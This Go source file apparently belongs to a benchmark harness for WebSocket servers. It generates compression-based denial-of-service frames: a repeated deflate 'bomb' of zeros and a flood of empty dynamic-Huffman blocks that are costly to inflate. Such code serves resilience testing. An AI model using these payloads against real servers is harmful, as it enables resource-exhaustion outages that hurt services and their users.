package bench

import (
	"bytes"
	"compress/flate"

	"github.com/gobwas/ws"
)

// The attacks on compression (RFC 7692). A message is a sequence of DEFLATE
// blocks (RFC 1951 §3.2), of which the last four bytes of the last, empty one
// are left out.

// compressedFrame returns the frame of a compressed binary message.
func compressedFrame(blocks []byte) []byte {
	return masked(ws.Header{Fin: true, Rsv: ws.Rsv(true, false, false), OpCode: ws.OpBinary}, blocks)
}

// bomb sends zeros, of which DEFLATE makes one byte from a thousand: 1 MiB of
// them, 32 times over.
func bomb(*Target) attacker {
	const mebibytes = 32
	var out bytes.Buffer
	w, err := flate.NewWriter(&out, flate.DefaultCompression)
	if err != nil {
		panic(err) // the level is a constant
	}
	_, _ = w.Write(make([]byte, 1<<20)) // a buffer takes all
	_ = w.Flush()
	blocks := bytes.Repeat(out.Bytes(), mebibytes)
	return newFlood(nil, compressedFrame(bytes.TrimSuffix(blocks, []byte(deflateTail))))
}

// emptyBlocks sends blocks with Huffman codes of their own and nothing but the
// end in them. Of the three kinds of block they cost most: 60 KB took
// klauspost/compress 8.2 ms to inflate, as blocks with the fixed codes 1.0 ms
// and as stored blocks 0.3 ms.
func emptyBlocks(*Target) attacker {
	const longest = 60_000 // bytes; many servers take 64 KiB at most
	var b bitstream
	for len(b.whole) < longest {
		b.appendEmptyBlock()
	}
	b.append(0, 3) // the beginning of the stored block that ends the message
	b.align()
	return newFlood(nil, compressedFrame(b.whole))
}

// bitstream is a sequence of bits, the first in the lowest of the first byte (RFC
// 1951 §3.1.1).
type bitstream struct {
	whole []byte
	part  uint32 // the first bits of the next byte
	n     int    // how many there are
}

// append appends the low n bits of v, 24 at most.
func (b *bitstream) append(v uint32, n int) {
	b.part |= v << b.n
	b.n += n
	for b.n >= 8 {
		b.whole = append(b.whole, byte(b.part))
		b.part >>= 8
		b.n -= 8
	}
}

// align fills the byte that has begun with zeros.
func (b *bitstream) align() {
	if b.n > 0 {
		b.append(0, 8-b.n)
	}
}

// appendEmptyBlock appends a block with dynamic Huffman codes (RFC 1951 §3.2.7):
// a literal code and a distance code of one symbol each, and the end of the
// block.
func (b *bitstream) appendEmptyBlock() {
	b.append(0, 1)  // BFINAL
	b.append(2, 2)  // BTYPE: dynamic
	b.append(0, 5)  // HLIT: 257 literal lengths
	b.append(0, 5)  // HDIST: 1 distance length
	b.append(14, 4) // HCLEN: 18 lengths of code lengths, in the order 16, 17, 18, …, 14, 1
	for place := range 18 {
		switch place {
		case 2, 17: // the symbols 18 and 1 have one bit: 1 for 18 and 0 for 1
			b.append(1, 3)
		default:
			b.append(0, 3)
		}
	}
	for _, unused := range []uint32{138, 118} { // literals
		b.append(1, 1)
		b.append(unused-11, 7)
	}
	b.append(0, 1) // the end of the block has one bit
	b.append(0, 1) // and so has the only distance
	b.append(0, 1) // the end of the block
}
